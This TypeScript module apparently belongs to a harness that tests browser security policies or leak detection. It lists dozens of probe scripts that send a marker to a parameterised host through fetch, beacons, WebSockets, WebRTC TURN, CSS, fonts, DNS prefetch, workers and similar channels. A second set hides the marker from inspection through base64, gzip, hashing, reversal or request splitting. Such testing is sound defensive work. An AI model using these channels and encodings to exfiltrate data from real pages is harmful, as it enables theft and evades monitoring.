/**
 * @module Ways by which a page can send something, each as a script that tries it. All of them go out to
 * a name of their own and carry a mark of their own, so that each is told from the others in a capture.
 */

export interface Probe {
  readonly name: string
  /** `channel`: to another server. `planted`: to the shop itself, where no policy can stop it. */
  readonly kind: 'channel' | 'planted'
  /** `opener`: leaves the page, so that it gets one of its own. */
  readonly where: 'page' | 'opener' | 'worker' | 'service worker'
  readonly script: string
}

/** What scripts may use: `M` the mark, `H` the host, `U` an address there with the mark. */
const PRELUDE = `
const U = (location.protocol === 'https:' ? 'https://' : 'http://') + H + '/' + M;
const add = (name, fields = {}, to = document.body) => to.append(Object.assign(document.createElement(name), fields));
const link = (rel, fields = {}) => add('link', { rel, href: U, ...fields }, document.head);
const style = (text) => add('style', { textContent: text });
const text = (bytes) => String.fromCharCode(...bytes);
const hex = (bytes) => [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
const bytes = (text) => new TextEncoder().encode(text);
const packed = async (format) => new Uint8Array(await new Response(new Blob([M]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer());
const ask = (init = {}) => fetch('/', { cache: 'no-store', ...init });
const say = (value) => ask({ headers: { accept: value } });
const rtc = async (url) => { const c = new RTCPeerConnection({ iceServers: [{ urls: url, username: M, credential: M }] }); c.createDataChannel(M); await c.setLocalDescription(await c.createOffer()); globalThis['rtc' + M] = c; };
`

const PAGE: Readonly<Record<string, string>> = {
  fetch: 'fetch(U)',
  'fetch without CORS': "fetch(U, { method: 'POST', mode: 'no-cors', body: M })",
  'fetch, keepalive': "fetch(U, { keepalive: true, mode: 'no-cors' })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('POST', U); x.send(M)",
  beacon: 'navigator.sendBeacon(U, M)',
  WebSocket: "new WebSocket(U.replace('http', 'ws'))",
  EventSource: 'new EventSource(U)',
  WebTransport: "new WebTransport('https://' + H + ':4433/' + M).ready.catch(() => 0)",
  'WebRTC, STUN': "await rtc('stun:' + H + ':3478')",
  'WebRTC, TURN over TCP': "await rtc('turn:' + H + ':3479?transport=tcp')",
  image: 'new Image().src = U',
  'image in SVG': `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + U + '"/></svg>')`,
  'CSS background': "document.body.style.backgroundImage = 'url(' + U + ')'",
  'CSS import': "style('@import \"' + U + '\";')",
  stylesheet: "link('stylesheet')",
  font: "new FontFace('f', 'url(' + U + ')').load().catch(() => 0)",
  script: "add('script', { src: U })",
  'script module': 'import(U).catch(() => 0)',
  modulepreload: "link('modulepreload')",
  preload: "link('preload', { as: 'image' })",
  prefetch: "link('prefetch')",
  icon: "link('icon')",
  manifest:
    "document.querySelectorAll('link[rel=manifest]').forEach((old) => old.remove()); link('manifest')",
  video: "add('video', { src: U, preload: 'auto' })",
  track: `document.body.insertAdjacentHTML('beforeend', '<video crossorigin src="data:video/mp4;base64,"><track default kind="captions" src="' + U + '"></video>'); document.body.lastElementChild.textTracks[0].mode = 'showing'`,
  iframe: "add('iframe', { src: U })",
  object: "add('object', { data: U })",
  embed: "add('embed', { src: U })",
  'speculation rules':
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', eagerness: 'immediate', urls: [U.replace(/^http:/, 'https:')] }] }) })",
  'DNS prefetch': "link('dns-prefetch', { href: '//' + H })",
  preconnect: "link('preconnect', { href: 'http://' + H })",
  ping: "const a = Object.assign(document.createElement('a'), { href: '#p', ping: U }); document.body.append(a); a.click()",
}

const OPENERS: Readonly<Record<string, string>> = {
  form: "const f = Object.assign(document.createElement('form'), { action: U, method: 'post' }); document.body.append(f); f.submit()",
  location: 'location.href = U',
  link: "const a = Object.assign(document.createElement('a'), { href: U }); document.body.append(a); a.click()",
  'window.open': 'window.open(U)',
  refresh: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + U }, document.head)",
}

const WORKER: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'script module'].map(
      (name) => [name, PAGE[name]],
    ),
  ),
  'worker of its own':
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U) + ')'])))",
}

const SERVICE_WORKER = { fetch: PAGE.fetch }

const PLANTED_IN_WORKERS = { 'header that every request has': 'say(M)' }

/** To the shop's own server, in the spellings of C3. */
const PLANTED: Readonly<Record<string, string>> = {
  'query of an address': "ask(); fetch('/?v=' + M)",
  path: "fetch('/' + M)",
  'path, percent': "fetch('/' + [...bytes(M)].map((b) => '%' + b.toString(16)).join(''))",
  'path, percent twice': "fetch('/' + [...bytes(M)].map((b) => '%25' + b.toString(16)).join(''))",
  header: "ask({ headers: { 'x-viewed': M } })",
  ...PLANTED_IN_WORKERS,
  referrer: "ask({ referrer: '/' + M, referrerPolicy: 'unsafe-url' })",
  'body of a POST': "fetch('/', { method: 'POST', body: M })",
  'body of a PUT': "fetch('/', { method: 'PUT', body: M })",
  form: "const b = new FormData(); b.set('v', M); fetch('/', { method: 'POST', body: b })",
  beacon: "navigator.sendBeacon('/', M)",
  image: "new Image().src = '/?' + M",
  cookie: "document.cookie = 'v=' + M; await ask(); document.cookie = 'v=; max-age=0'",
  WebSocket: "new WebSocket(location.origin.replace('http', 'ws') + '/' + M)",
  EventSource: "new EventSource('/?' + M).onerror = (event) => event.target.close()",
  base64: 'say(btoa(M))',
  'base64, one byte on': "say(btoa('x' + M))",
  'base64, two bytes on': "say(btoa('xy' + M))",
  'base64 for addresses':
    "say(btoa('\\xff\\xfe' + M).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''))",
  hex: 'say(hex(bytes(M)))',
  reversed: "say([...M].reverse().join(''))",
  'JSON escapes':
    "say([...M].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''))",
  'UTF-16': "fetch('/', { method: 'POST', body: Uint16Array.from(M, (c) => c.charCodeAt(0)) })",
  gzip: "fetch('/', { method: 'POST', body: await packed('gzip') })",
  deflate: "fetch('/', { method: 'POST', body: await packed('deflate') })",
  'raw deflate': "fetch('/', { method: 'POST', body: await packed('deflate-raw') })",
  'base64 of hex of gzip': "say(btoa(hex(await packed('gzip'))))",
  'hex of base64, reversed': "say([...hex(bytes(btoa(M)))].reverse().join(''))",
  'SHA-256': "say(hex(new Uint8Array(await crypto.subtle.digest('SHA-256', bytes(M)))))",
  'SHA-1 in base64':
    "say(btoa(text(new Uint8Array(await crypto.subtle.digest('SHA-1', bytes(M))))))",
  'split over two requests':
    "const half = M.length / 2; fetch('/?a=' + M.slice(0, half)); fetch('/?b=' + M.slice(half))",
}

const all = (
  scripts: Readonly<Record<string, string>>,
  where: Probe['where'],
  kind: Probe['kind'] = 'channel',
): Probe[] => Object.entries(scripts).map(([name, script]) => ({ name, kind, where, script }))

export const PROBES: readonly Probe[] = [
  ...all(PAGE, 'page'),
  ...all(OPENERS, 'opener'),
  ...all(WORKER, 'worker'),
  ...all(SERVICE_WORKER, 'service worker'),
  ...all(PLANTED, 'page', 'planted'),
  ...all(PLANTED_IN_WORKERS, 'worker', 'planted'),
  ...all(PLANTED_IN_WORKERS, 'service worker', 'planted'),
]

/** The whole script of one probe: what fails in it is what a policy does. */
export function scriptOf({ script }: Probe, mark: string, host: string): string {
  return `(async () => { const M = ${JSON.stringify(mark)}, H = ${JSON.stringify(host)}; ${PRELUDE}
    try { ${script} } catch {} })()`
}
